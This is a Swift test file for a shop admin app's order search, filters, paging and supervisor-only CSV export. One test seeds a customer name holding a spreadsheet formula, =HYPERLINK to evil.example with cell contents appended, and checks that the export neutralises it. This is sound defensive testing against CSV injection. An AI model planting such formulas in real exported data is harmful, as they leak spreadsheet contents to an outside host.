import Foundation
import Hummingbird
import HummingbirdTesting
import Logging
import XCTest

@testable import CleanStore
@testable import CleanStoreTestSupport

/// The list's search, filters and sort, and the CSV export, through the real router and templates.
final class SearchHTTPTests: XCTestCase {
    /// José Núñez (order 1, two-day), then 70 orders of others, one an hour from June 29, 2007 (UTC).
    static func orders() -> [Order] {
        var jose = Seeds.Orders.bob
        jose.firstName = "José"
        jose.lastName = "Núñez"
        jose.email = "jose@example.com"
        jose.date = Seeds.june29.addingTimeInterval(-86_400)
        var orders = [jose]
        for index in 0..<70 {
            var order = index % 2 == 0 ? Seeds.Orders.amy : Seeds.Orders.bob
            order.lastName += " \(index)"
            order.date = Seeds.june29.addingTimeInterval(Double(index) * 3600)
            orders.append(order)
        }
        return orders
    }

    static func ids(_ html: String) -> [Int] {
        html.components(separatedBy: #"<td><a href="/orders/"#).dropFirst().compactMap { Int($0.prefix { $0.isNumber }) }
    }

    /// A link's `href` as the browser follows it (`&amp;` read as `&`).
    static func link(_ rel: String, _ html: String) -> String? {
        guard let range = html.range(of: ##"<a rel="\##(rel)" href=""##) else { return nil }
        return String(html[range.upperBound...].prefix { $0 != "\"" }).replacingOccurrences(of: "&amp;", with: "&")
    }

    func testASearchFindsJoseByPartOfHisNameWithoutAccentsAsAFormSendsIt() async throws {
        let app = try await TestApp(orders: Self.orders())
        try await app.test { client in
            for query in ["q=jose+nunez", "q=Jos%C3%A9", "q=N%C3%9A%C3%91EZ", "q=nunez+jose", "q=%231", "q=jose%40example", "q=os+%C3%B1e"] {
                let page = try await client.get("/orders?\(query)")
                XCTAssertEqual(page.status, .ok, query)
                XCTAssertEqual(Self.ids(page.text), [1], query)
            }
            let none = try await client.get("/orders?q=jose+zebra")
            XCTAssertEqual(Self.ids(none.text), [], "Every word must match")
            XCTAssertTrue(none.text.contains("No orders match “jose zebra”."), none.text)
            XCTAssertTrue(none.text.contains(#"<a href="/orders">clear filters</a>"#), none.text)
        }
    }

    func testFiltersAndSortsCombineAndEveryPageKeepsThem() async throws {
        let app = try await TestApp(orders: Self.orders())
        try await app.test { client in
            // Amy's orders are the even ones from 2 (standard shipping): 35 of them.
            let amys = Array(stride(from: 2, through: 70, by: 2))
            let byName = try await client.get("/orders?q=amy&shipping=0&sort=name")
            // Last names "Apple 0", "Apple 10", "Apple 12", … sort as text.
            let expected = amys.sorted { "apple \($0 - 2)".utf8.lexicographicallyPrecedes("apple \($1 - 2)".utf8) }
            XCTAssertEqual(Self.ids(byName.text), expected)
            XCTAssertTrue(byName.text.contains(#"<th scope="col" aria-sort="ascending">Customer</th>"#))
            XCTAssertTrue(byName.text.contains(#"<option value="name" selected="selected">By customer name, A to Z</option>"#))
            XCTAssertTrue(byName.text.contains("35 orders found (71 in all)"), "The results counted")

            // The whole list by total: two pages of 50 and 21.
            let byTotal = try await client.get("/orders?sort=-total")
            let first = Self.ids(byTotal.text)
            XCTAssertEqual(first.count, 50)
            let nextURL = try XCTUnwrap(Self.link("next", byTotal.text))
            XCTAssertTrue(nextURL.hasPrefix("/orders?sort=-total&after=t_"), nextURL)
            let second = try await client.get(nextURL)
            let rest = Self.ids(second.text)
            XCTAssertEqual(Set(first + rest).count, 71, "Every order once")
            let backURL = try XCTUnwrap(Self.link("prev", second.text))
            let back = try await client.get(backURL)
            XCTAssertEqual(Self.ids(back.text), first, "Back to the first page")

            // Dates: the shop's days (UTC here). June 29, 2007 holds orders 2…19 (06:00 to 23:00).
            let june29 = try await client.get("/orders?from=2007-06-29&to=06%2F29%2F2007&sort=date")
            XCTAssertEqual(Self.ids(june29.text), Array(2...19), "Oldest first, the whole day")
            let filtered = try await client.get("/orders?q=bob&from=2007-06-29&to=2007-06-29")
            XCTAssertEqual(Self.ids(filtered.text), Array(stride(from: 19, through: 3, by: -2)))
        }
    }

    func testTheStatusFilterFindsOrdersByTheirStatusShownAsATag() async throws {
        var orders = Self.orders()
        for index in orders.indices where index % 10 == 0 { orders[index].status = .paid }
        orders[5].status = .cancelled
        let app = try await TestApp(orders: orders)
        try await app.test { client in
            let paid = try await client.get("/orders?status=paid")
            XCTAssertEqual(Self.ids(paid.text), [71, 61, 51, 41, 31, 21, 11, 1])
            XCTAssertTrue(paid.text.contains(#"<td class="status"><strong class="tag status-paid">Paid</strong></td>"#))
            XCTAssertTrue(paid.text.contains("Status: Paid</a>"), "A tag that removes it")
            XCTAssertTrue(paid.text.contains(#"<input id="status-paid" name="status" type="radio" value="paid" checked="checked" />"#))
            let cancelledBob = try await client.get("/orders?status=cancelled&q=battery")
            XCTAssertEqual(Self.ids(cancelledBob.text), [], "Order 6 is Amy's")
            let cancelled = try await client.get("/orders?status=cancelled&q=apple")
            XCTAssertEqual(Self.ids(cancelled.text), [6])
            let csv = try await client.get("/orders.csv?status=paid&sort=date")
            XCTAssertEqual(csv.text.components(separatedBy: "\r\n").dropFirst().compactMap { Int($0.prefix { $0.isNumber }) }, [1, 11, 21, 31, 41, 51, 61, 71])
        }
    }

    func testValuesThatMeanNothingAreIgnoredOrNamedNeverA500() async throws {
        let app = try await TestApp(orders: Self.orders())
        try await app.test { client in
            for query in [
                "sort=price", "sort=", "shipping=9", "shipping=%FF", "shipping=", "q=", "q=%", "q=%E0%A4", "q=+++",
                "q=%23", "q=%23abc", "q=%239999999999999999999999", "after=t_x_1&sort=-total", "before=n_1_%25%25&sort=name",
                "after=1_1&sort=name", "from=&to=", "from=2007-02-30", "to=13%2F1%2F2007", "from=2007-06-30&to=2007-06-29",
                "q=\(String(repeating: "a", count: 201))", "q=\(String(repeating: "%C3%A9+", count: 300))", "q=a&q=b", "unknown=1", "status=sent", "status=PAID",
            ] {
                let page = try await client.get("/orders?\(query)")
                XCTAssertEqual(page.status, .ok, query)
                XCTAssertTrue(page.text.contains("<h1>Orders</h1>"), query)
            }
            let bad = try await client.get("/orders?from=2007-02-30&to=2007-06-29")
            XCTAssertTrue(bad.text.contains("Enter the first day as a real date"), "Named beside its field")
            XCTAssertEqual(Self.ids(bad.text).first, 19, "The rest applies: up to June 29")
            let long = try await client.get("/orders?q=\(String(repeating: "a", count: 201))")
            XCTAssertTrue(long.text.contains("Search for 200 characters or fewer"))
        }
    }

    // MARK: CSV

    func testTheCSVHasEveryOrderTheListsQueryFindsNotOnePage() async throws {
        let log = LogCapture()
        var app = try await TestApp(orders: Self.orders())
        app.logger = log.logger(level: .info)
        try await app.test { client in
            let all = try await client.get("/orders.csv")
            XCTAssertEqual(all.status, .ok)
            XCTAssertEqual(all.headers[.contentType], "text/csv; charset=utf-8; header=present")
            XCTAssertEqual(all.headers[.contentDisposition], "attachment; filename=\"orders-2007-06-29.csv\"")
            let lines = all.text.components(separatedBy: "\r\n")
            XCTAssertTrue(lines[0].hasPrefix("\u{FEFF}Order,Date,Status,First name,Last name,Email,Phone,"), lines[0])
            XCTAssertEqual(lines.count, 1 + 71 + 1, "Header, 71 rows, and the empty after the last CRLF")
            XCTAssertEqual(lines.last, "")
            XCTAssertTrue(lines[1].hasPrefix("71,2007-07-02T03:00:00+00:00,New,Bob,Battery 69,"), lines[1])

            let jose = try await client.get("/orders.csv?q=jose+nunez")
            let joseLines = jose.text.components(separatedBy: "\r\n")
            XCTAssertEqual(joseLines.count, 3)
            XCTAssertTrue(joseLines[1].hasPrefix("1,2007-06-28T06:00:00+00:00,New,José,Núñez,jose@example.com,"), joseLines[1])
            XCTAssertTrue(joseLines[1].contains(",4444,9.99,"), "The card's last four, the total")
            XCTAssertFalse(jose.text.contains("5555555555554444"))

            let sorted = try await client.get("/orders.csv?sort=date&shipping=2&from=2007-06-29")
            let sortedIDs = sorted.text.components(separatedBy: "\r\n").dropFirst().compactMap { Int($0.prefix { $0.isNumber }) }
            XCTAssertEqual(sortedIDs, Array(stride(from: 3, through: 71, by: 2)), "Bob's from June 29, oldest first")
        }
        XCTAssertTrue(log.text.contains("Orders exported"), log.text)
        XCTAssertTrue(log.text.contains("query=?q=jose%20nunez") && log.text.contains("rows=1"), log.text)
        XCTAssertTrue(log.text.contains("account=\(testAccount.name.username)"), log.text)
    }

    /// OWASP CSV injection: a customer named `=HYPERLINK(…)` is text in the spreadsheet.
    func testAFormulaInACustomersNameIsNeutralisedInTheCSV() async throws {
        var order = Seeds.Orders.amy
        order.firstName = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"
        order.lastName = "@SUM(1+1)"
        order.phone = "+1 555 0100"
        order.shipmentAddress.city = "-2+3"
        let app = try await TestApp(orders: [order])
        try await app.test { client in
            let csv = try await client.get("/orders.csv").text
            let row = csv.components(separatedBy: "\r\n")[1]
            XCTAssertTrue(row.contains(#","'=HYPERLINK(""http://evil.example/?""&A1,""Click"")","#), row)
            XCTAssertTrue(row.contains(",'@SUM(1+1),"), row)
            XCTAssertTrue(row.contains(",'+1 555 0100,"), row)
            XCTAssertTrue(row.contains(",'-2+3,"), row)
            for cell in row.split(separator: ",") {
                XCTAssertFalse(["=", "+", "-", "@"].contains(cell.first), "\(cell)")
            }
        }
    }

    func testOnlyASupervisorMayDownloadTheCSVAndTheListLinksItOnlyForThem() async throws {
        for (role, status) in [(AccountRole.viewer, HTTPResponse.Status.forbidden), (.clerk, .forbidden), (.supervisor, .ok)] {
            let app = try await TestApp(orders: Self.orders(), role: role)
            try await app.test { client in
                let csv = try await client.get("/orders.csv?q=amy")
                XCTAssertEqual(csv.status, status, "\(role)")
                let list = try await client.get("/orders?q=amy")
                XCTAssertEqual(list.text.contains(#"href="/orders.csv?q=amy""#), role == .supervisor, "\(role)")
            }
        }
        let app = try await TestApp(orders: Self.orders())
        try await app.test { client in
            let signedOut = try await client.get("/orders.csv?q=amy", signedIn: false)
            XCTAssertEqual(signedOut.status, .seeOther)
            XCTAssertEqual(signedOut.headers[.location], "/sign-in?return=/orders.csv%3Fq%3Damy")
        }
    }

    func testAStoreThatCannotBeReadIsA503BeforeAnyRow() async throws {
        let app = try await TestApp(store: ExportOrdersWorkerTests.FailingAfterFirstPage(base: OrdersMemStore(), pagesBeforeFailing: 0))
        try await app.test { client in
            let csv = try await client.get("/orders.csv")
            XCTAssertEqual(csv.status, .serviceUnavailable)
            XCTAssertEqual(csv.headers[.contentType], "text/html; charset=utf-8")
        }
    }
}
